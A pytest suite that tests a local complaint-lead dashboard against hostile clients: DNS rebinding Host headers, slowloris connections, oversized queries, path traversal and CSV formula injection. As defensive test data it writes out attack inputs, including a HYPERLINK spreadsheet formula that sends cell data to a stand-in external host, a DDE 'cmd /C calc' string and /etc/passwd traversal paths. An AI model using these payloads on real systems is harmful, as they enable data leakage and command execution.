"""The dashboard against hostile clients and hostile lead text (issue 26, item 8).

A foreign ``Host`` (DNS rebinding) is refused while the loopback names are served; hundreds of
half-sent requests neither stall ``/api/health`` nor multiply threads; a query with 32,000 filter
values is refused with 400; every CSV column of the export is neutralised against formulas, and the
JSON forms stay well-formed. The leads are made here (no shared data). No test asserts a duration.
"""
import csv
import http.client
import io
import json
import math
import random
import socket
import threading
import time
import unicodedata
import urllib.error
import urllib.request
from datetime import datetime, timedelta, timezone
from urllib.parse import quote

import pytest

from envleads import feed
from envleads.dashboard import api, server
from envleads.dashboard.server import Dashboard, CurrentLeads
from envleads.feed import LeadFilter, make_filter
from envleads.leads import lead_to_avro_dict
from envleads.records import Lead, ReportJoin, ScoreReason

CST = timezone(timedelta(hours=8))
NOW = int(datetime(2025, 6, 1, 12, 0, tzinfo=CST).timestamp() * 1000)
DAY = 86_400_000
REGIONS = [
    {"province": "江苏省", "city": "南京市", "county": "鼓楼区", "adcode": "320106", "level": "county"},
    {"province": "江苏省", "city": "南京市", "county": "玄武区", "adcode": "320102", "level": "county"},
    {"province": "江苏省", "city": "苏州市", "county": "姑苏区", "adcode": "320508", "level": "county"},
    {"province": "广东省", "city": "深圳市", "county": "宝安区", "adcode": "440306", "level": "county"},
    {"province": "广东省", "city": "广州市", "county": None, "adcode": "440100", "level": "city"},
    {"province": "北京市", "city": None, "county": "朝阳区", "adcode": "110105", "level": "county"},
    None,
]
TYPES = ("air", "water", "noise", "solid_waste", "soil")
CAMPAIGNS = ("blue_sky.key_regions", "blue_sky", "clear_water.drinking_sources", "pure_land", "blue_sky.x.y")


def lead(lead_id, **fields):
    values = dict(
        lead_id=lead_id, cluster_id=lead_id, first_complaint_id="RX2025050100000001",
        complaint_ids=["RX2025050100000001"], report_count=1, reporter_keys=["rk-hardening-" + lead_id],
        distinct_reporters=1, first_seen_ms=NOW - 3 * DAY, last_seen_ms=NOW - 2 * DAY, pollution_types=["air"],
        region=REGIONS[0], department="南京市生态环境局", routing_rule="county_environment", score=20.0,
        tier="normal", reasons=[ScoreReason("repeats", 6.0, "2 reports")], campaigns=[],
        summary="反映附近工厂排放刺鼻废气。", matter_signature=[1, 2], matter_entities=["company:宏达"],
        updated_at_ms=NOW - 2 * DAY, channel="phone", deadline_ms=NOW + DAY, joins=())
    values.update(fields)
    return Lead(**values)


def varied_leads(count=60, seed=3):
    rng = random.Random(seed)
    return [lead(f"lead-h-{i:03d}", region=rng.choice(REGIONS), score=round(rng.uniform(1, 90), 1),
                 tier=rng.choice(("urgent", "high", "normal", "low")),
                 pollution_types=rng.sample(TYPES, rng.randint(1, 2)),
                 campaigns=rng.sample(CAMPAIGNS, rng.randint(0, 2)),
                 deadline_ms=NOW + rng.choice((-1, 1)) * DAY)
            for i in range(count)]


@pytest.fixture
def leads_file(tmp_path):
    path = tmp_path / "leads.jsonl"
    path.write_text("".join(json.dumps(lead_to_avro_dict(item), ensure_ascii=False) + "\n" for item in varied_leads()),
                    encoding="utf-8")
    return str(path)


@pytest.fixture
def dashboard(leads_file):
    with Dashboard(input_path=leads_file, port=0, refresh_s=0.2, now_ms=lambda: NOW) as running:
        yield running


def port_of(running):
    return running.server.server_address[1]


def request(running, path="/api/health", host="default", method="GET", version="HTTP/1.1", body=b"", timeout=10):
    """One raw request (the Host header exactly as given, or none with ``host=None``); returns
    (status, headers, body) read until the server closes (``Connection: close`` for HTTP/1.1, which
    is kept alive otherwise)."""
    lines = [f"{method} {path} {version}"]
    if host == "default":
        host = f"127.0.0.1:{port_of(running)}"
    if host is not None:
        lines.append(f"Host: {host}")
    if version == "HTTP/1.1":
        lines.append("Connection: close")
    if body:
        lines.append(f"Content-Length: {len(body)}")
    raw = ("\r\n".join(lines) + "\r\n\r\n").encode("utf-8") + body
    with socket.create_connection(("127.0.0.1", port_of(running)), timeout=timeout) as sock:
        sock.sendall(raw)
        chunks = []
        while True:
            chunk = sock.recv(65536)
            if not chunk:
                break
            chunks.append(chunk)
    response = http.client.HTTPResponse(_FakeSocket(b"".join(chunks)))
    response.begin()
    return response.status, dict(response.getheaders()), response.read()


def refused_or_reset(running, status, **kwargs):
    try:
        return request(running, **kwargs)[0] == status
    except ConnectionResetError:
        return True


class _FakeSocket:
    def __init__(self, data):
        self._file = io.BytesIO(data)

    def makefile(self, *args, **kwargs):
        return self._file


def get(url, timeout=30):
    try:
        with urllib.request.urlopen(url, timeout=timeout) as response:
            return response.status, response.read()
    except urllib.error.HTTPError as error:
        return error.code, error.read()


def strict_json(text):
    def refuse(constant):
        raise ValueError(f"not JSON: {constant}")
    return json.loads(text, parse_constant=refuse)


# ---- Host allow-list -----------------------------------------------------------------------------

def test_a_foreign_host_is_refused_while_localhost_is_served(dashboard):
    port = port_of(dashboard)
    for host in (f"127.0.0.1:{port}", f"localhost:{port}", f"LOCALHOST.:{port}", f"[::1]:{port}"):
        status, _, body = request(dashboard, host=host)
        assert status == 200 and strict_json(body)["leads"] == 60, host
    # DNS rebinding: the attacker's name now resolves to 127.0.0.1, the browser sends it as Host.
    for host in (f"rebind.attacker.example:{port}", "rebind.attacker.example", f"localhost:{port + 1}",
                 f"127.0.0.1.attacker.example:{port}", "", f"127.0.0.1:{port}@evil"):
        status, headers, body = request(dashboard, host=host)
        assert status == 421, host
        assert headers["Content-Type"].startswith("text/plain") and len(body) < 200
        assert b"lead" not in body and b"rebind" not in body  # nothing served, the name not echoed
    assert request(dashboard, path="/api/leads", host=f"rebind.attacker.example:{port}")[0] == 421
    assert request(dashboard, path="/", host=f"rebind.attacker.example:{port}")[0] == 421


def test_without_host_only_http10_on_loopback_and_allowed_hosts_can_be_added(leads_file):
    with Dashboard(input_path=leads_file, port=0, refresh_s=0.2, now_ms=lambda: NOW,
                   allowed_hosts=["leads.example.org", "dash.example.org:8443"]) as running:
        assert request(running, host=None, version="HTTP/1.0")[0] == 200
        assert request(running, host=None, version="HTTP/1.1")[0] == 400
        two = request(running, host=f"127.0.0.1:{port_of(running)}\r\nHost: rebind.example")
        assert two[0] == 400
        assert request(running, host="leads.example.org")[0] == 200  # any port
        assert request(running, host="leads.example.org:9999")[0] == 200
        assert request(running, host="dash.example.org:8443")[0] == 200
        assert request(running, host="dash.example.org:8444")[0] == 421
        # The same server bound to a non-loopback address: no Host, no answer.
        running.app.loopback_bound = False
        assert request(running, host=None, version="HTTP/1.0")[0] == 421
    with pytest.raises(ValueError, match="allowed-host"):
        server.allowed_hosts_for(["127.0.0.1"], 80, ["http://x/"])


def test_host_values_parse_as_browsers_send_them():
    assert server.parse_host("[::1]:8750") == ("::1", 8750)
    assert server.parse_host("Localhost.") == ("localhost", 80)
    assert server.parse_host("example.org", default_port=None) == ("example.org", None)
    for bad in ("", "a b", "x:0", "x:99999", "x:8a", "[::1", "[::1]x", "user@host", "a/b"):
        assert server.parse_host(bad) is None, bad
    hosts = server.allowed_hosts_for(["0.0.0.0", "0.0.0.0"], 8750)
    assert ("0.0.0.0", 8750) not in hosts and ("localhost", 8750) in hosts and ("::1", 8750) in hosts


# ---- slow clients --------------------------------------------------------------------------------

def half_open(port, count):
    """Sockets that sent part of a request line and stall (slowloris)."""
    sockets = []
    for i in range(count):
        sock = socket.create_connection(("127.0.0.1", port), timeout=10)
        sock.sendall(b"GET /api/health?n=%d HTTP/1.1\r\nHost: 127.0" % i)
        sockets.append(sock)
    return sockets


def closed_by_server(sock):
    """True when the server closed ``sock`` without answering (end of stream, or a reset when it
    closed with request bytes unread); a socket timeout (10 s) raises instead."""
    try:
        return sock.recv(100) == b""
    except ConnectionResetError:
        return True


def test_half_open_connections_neither_stall_health_nor_multiply_threads(leads_file):
    threads_before = threading.active_count()
    with Dashboard(input_path=leads_file, port=0, refresh_s=0.2, now_ms=lambda: NOW) as running:
        stalled = half_open(port_of(running), 320)
        try:
            for _ in range(5):
                status, body = get(running.url + "api/health", timeout=5)  # a stall would raise here
                assert status == 200 and json.loads(body)["leads"] == 60
            # The I/O thread, the refresher, the 8 workers and the one answering 503: not one per connection.
            assert threading.active_count() <= threads_before + 2 + 8 + 2
        finally:
            for sock in stalled:
                sock.close()


def test_a_stalled_or_trickling_request_is_dropped_at_the_request_timeout(leads_file):
    with Dashboard(input_path=leads_file, port=0, refresh_s=0.2, now_ms=lambda: NOW,
                   request_timeout=0.5) as running:
        stalled = half_open(port_of(running), 3)
        trickle = socket.create_connection(("127.0.0.1", port_of(running)), timeout=10)
        dropped = False
        for byte in b"GET /api/health HTTP/1.1\r\nHost: 127.0.0.1\r\nX-Slow: " + b"a" * 200:
            try:
                trickle.sendall(bytes([byte]))
            except OSError:
                dropped = True
                break
            time.sleep(0.05)  # one byte per 50 ms: never idle for the timeout, yet never done
        assert dropped  # while still trickling: a deadline, not only an idle timeout (waitress's own)
        for sock in stalled:
            assert closed_by_server(sock)  # well before the 10 s socket timeout
            sock.close()
        trickle.close()
        assert running.server.stats["timed_out"] >= 4
        assert get(running.url + "api/health")[0] == 200


def test_beyond_max_connections_the_oldest_stalled_one_makes_room(leads_file):
    with Dashboard(input_path=leads_file, port=0, refresh_s=0.2, now_ms=lambda: NOW, max_connections=40) as running:
        stalled = half_open(port_of(running), 100)
        try:
            assert get(running.url + "api/health", timeout=5)[0] == 200
            assert running.server.open_connections <= 40
            assert running.server.stats["evicted"] >= 60
            assert closed_by_server(stalled[0])  # the oldest went first
        finally:
            for sock in stalled:
                sock.close()


class _BlockingStore(CurrentLeads):
    def __init__(self):
        super().__init__("blocking")
        self.entered, self.release = threading.Event(), threading.Event()

    def status(self):
        self.entered.set()
        assert self.release.wait(30)
        return super().status()


def test_a_full_pool_answers_503_at_once_and_catches_up():
    store = _BlockingStore()
    http_server = server.make_server(store, port=0, now_ms=lambda: NOW, workers=1).start()
    port = http_server.server_address[1]
    raw = f"GET /api/health HTTP/1.1\r\nHost: 127.0.0.1:{port}\r\nConnection: close\r\n\r\n".encode()
    try:
        first = socket.create_connection(("127.0.0.1", port), timeout=10)
        first.sendall(raw)
        assert store.entered.wait(10)  # the only worker is busy
        second = socket.create_connection(("127.0.0.1", port), timeout=10)
        second.sendall(raw)
        answer = second.recv(4096)  # at once, from the thread kept beyond the workers
        assert answer.startswith(b"HTTP/1.1 503 ") and b"Retry-After: 1" in answer
        store.release.set()
        assert first.recv(4096).startswith(b"HTTP/1.1 200 ")
        third = socket.create_connection(("127.0.0.1", port), timeout=10)
        third.sendall(raw)
        assert third.recv(4096).startswith(b"HTTP/1.1 200 ")
    finally:
        store.release.set()
        http_server.shutdown()


def test_what_held_before_still_holds(dashboard):
    status, headers, body = request(dashboard, path="/")
    assert status == 200 and "script-src 'self'" in headers["Content-Security-Policy"]
    assert headers["X-Content-Type-Options"] == "nosniff"
    for path in ("/static/../server.py", "/static/%2e%2e/server.py", "/../../etc/passwd", "/static/app.js/.."):
        assert request(dashboard, path=path)[0] == 404, path
    assert request(dashboard, method="POST", body=b"x" * 1000)[0] == 501  # the whole answer arrives
    # Too large to read: refused, and the connection closed with the rest unread (waitress does not
    # drain it), so the refusal may arrive or be overtaken by the reset.
    assert refused_or_reset(dashboard, 413, method="POST", body=b"x" * 100_000)  # a body over 64 KiB
    assert request(dashboard, method="DELETE")[0] == 501
    assert request(dashboard, path="/api/leads?limit=" + "9" * 5000)[0] == 400
    assert request(dashboard, path="/api/leads?type=smell")[0] == 400
    assert request(dashboard, path="/" + "a" * 70_000)[0] == 414  # a request line over 64 KiB
    assert refused_or_reset(dashboard, 431, host=f"127.0.0.1:{port_of(dashboard)}\r\nX-Big: " + "b" * 80_000)


# ---- query caps ----------------------------------------------------------------------------------

def test_32000_filter_values_are_refused(dashboard):
    values = ",".join(str(i % 10) for i in range(32_000))  # 64,000 characters: under the 64 KiB line
    status, body = get(dashboard.url + "api/leads?region=" + values)
    assert status == 400 and "query too long" in json.loads(body)["error"]
    status, body = get(dashboard.url + "api/leads?" + "&".join(f"region={i}" for i in range(32_000)))
    assert status in (400, 414, 431)  # 200 KB: refused by the request-head limit (431) before parsing


def test_filter_values_and_parameters_are_capped(dashboard):
    status, body = get(dashboard.url + "api/leads?region=" + ",".join([quote("南京")] * 33))
    assert status == 400 and "too many region values" in json.loads(body)["error"]
    status, body = get(dashboard.url + "api/leads?" + "&".join(["type=air"] * 33))
    assert status == 400 and "too many type values" in json.loads(body)["error"]
    status, body = get(dashboard.url + "api/leads?" + "&".join(f"x{i}=1" for i in range(65)))
    assert status == 400 and "too many query parameters" in json.loads(body)["error"]
    status, body = get(dashboard.url + "api/leads?region=" + ",".join(["3201"] * 32) + "&type=air,water")
    payload = json.loads(body)
    assert status == 200 and payload["matched"] > 0
    assert all(row["adcode"].startswith("3201") for row in payload["rows"])


def test_the_dashboards_matcher_agrees_with_the_feed():
    leads = varied_leads(200, seed=11) + [lead("lead-h-none", region=None), lead("lead-h-empty", region={})]
    rng = random.Random(5)
    words = ["南京", "京", "江苏省", "鼓楼区", "广州市", "朝阳", "州", "32", "3201", "320106", "44", "4403", "1",
             "320100", "440000", "9", "市", "区"]
    for _ in range(400):
        lead_filter = make_filter(regions=rng.sample(words, rng.randint(0, 4)),
                                  types=rng.sample(TYPES, rng.randint(0, 2)),
                                  min_score=rng.choice((None, 10, 50.5)),
                                  campaigns=rng.sample(["blue_sky", "blue_sky.x", "pure_land", "clear", "blue"],
                                                       rng.randint(0, 2)),
                                  overdue_only=rng.random() < 0.2)
        match = api.lead_matcher(lead_filter, NOW)
        assert [match(item) for item in leads] == [feed.matches(item, lead_filter, NOW) for item in leads], lead_filter
    assert api.lead_matcher(LeadFilter(), NOW)(leads[0])


def test_a_nan_score_does_not_break_the_pages_json(tmp_path):
    path = tmp_path / "leads.jsonl"
    record = lead_to_avro_dict(lead("lead-h-nan"))
    path.write_text(json.dumps(record).replace('"score": 20.0', '"score": NaN') + "\n", encoding="utf-8")
    assert "NaN" in path.read_text(encoding="utf-8")
    with Dashboard(input_path=str(path), port=0, refresh_s=0.2, now_ms=lambda: NOW) as running:
        status, body = get(running.url + "api/leads")
        payload = strict_json(body.decode("utf-8"))
        assert status == 200 and payload["rows"][0]["score"] is None


# ---- exports -------------------------------------------------------------------------------------

FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r", " =", "\u3000+", "\t-", "\n@", "＝", "＋", "－", "＠",
                  "　＝", "﹦", "﹢", "﹣", "﹫")
TEXT_COLUMNS = ("pollution_types", "province", "city", "county", "adcode", "region_level", "department", "channel",
                "campaigns", "reasons", "summary", "lead_id", "first_complaint_id", "complaint_ids", "matter_entities",
                "routing_rule", "joins")


def hostile_lead(index, start):
    """A lead whose every text field (and every list item) starts with ``start``."""
    text = start + 'HYPERLINK("http://x.example/?"&A1,"点击")'

    def t(suffix):
        return f"{text}{suffix}"

    region = {level: t(level) for level in ("province", "city", "county", "adcode", "level")}
    return lead(f"{start}lead-{index}", cluster_id=t("c"), first_complaint_id=t("first"),
                complaint_ids=[t("c1"), t("c2")], pollution_types=[t("type")], region=region, department=t("dept"),
                routing_rule=t("rule"), reasons=[ScoreReason(t("factor"), 5.0, t("detail"))], campaigns=[t("camp")],
                summary=t("summary") + "\u2028</script><b>\"'\n=cmd|' /C calc'!A0", matter_entities=[t("company")],
                channel=t("channel"), joins=(ReportJoin(t("join"), t("evidence"), t("shared"), 0.5),),
                score=10.0 + index)


def formula_like(cell):
    first = unicodedata.normalize("NFKC", cell.lstrip()[:1])
    return cell.startswith(("\t", "\r")) or first in ("=", "+", "-", "@")


def test_the_csv_export_neutralises_every_column():
    leads = [hostile_lead(i, start) for i, start in enumerate(FORMULA_STARTS)]
    output = io.StringIO(newline="")
    assert feed.export_leads(leads, "csv", output, NOW) == len(leads)
    rows = list(csv.DictReader(io.StringIO(output.getvalue(), newline="")))
    assert len(rows) == len(leads) and list(rows[0]) == list(feed.CSV_COLUMNS)
    for row in rows:
        for column in TEXT_COLUMNS:
            assert row[column].startswith("'"), (column, row[column][:12])
        for column, cell in row.items():
            assert not formula_like(cell), (column, cell[:12])
        float(row["score"]), int(row["rank"]), int(row["report_count"])  # numbers stay numbers
    assert feed.lead_to_csv_row(lead("lead-plain", summary="  普通投诉 -3dB"), 1, NOW)["summary"] == "  普通投诉 -3dB"


def test_the_json_exports_are_well_formed_and_carry_the_text_as_is():
    leads = [hostile_lead(i, start) for i, start in enumerate(FORMULA_STARTS)]
    by_id = {item.lead_id: item for item in leads}
    output = io.StringIO()
    feed.export_leads(leads, "jsonl", output, NOW)
    lines = output.getvalue().split("\n")
    assert lines[-1] == "" and len(lines) == len(leads) + 1  # one record per line: newlines escaped
    for line in lines[:-1]:
        record = strict_json(line)
        original = by_id[record["lead_id"]]
        assert record["summary"] == original.summary and record["channel"] == original.channel  # not altered
        assert "reporter_keys" not in record and "matter_signature" not in record
        assert "rk-hardening-" not in line
    output = io.StringIO()
    feed.export_leads(leads, "geojson", output, NOW)
    collection = strict_json(output.getvalue())
    assert collection["type"] == "FeatureCollection" and len(collection["features"]) == len(leads)
    for feature in collection["features"]:
        assert feature["type"] == "Feature" and feature["properties"]["lead_id"] == feature["id"]
        geometry = feature["geometry"]
        assert geometry is None or (geometry["type"] == "Point" and all(math.isfinite(c) for c in geometry["coordinates"]))
    # The dashboard's own JSON of such a lead: well-formed, the text as text (the page uses textContent).
    detail = api.lead_detail(leads[0], NOW, {})
    assert strict_json(json.dumps(detail, ensure_ascii=False))["summary"] == leads[0].summary
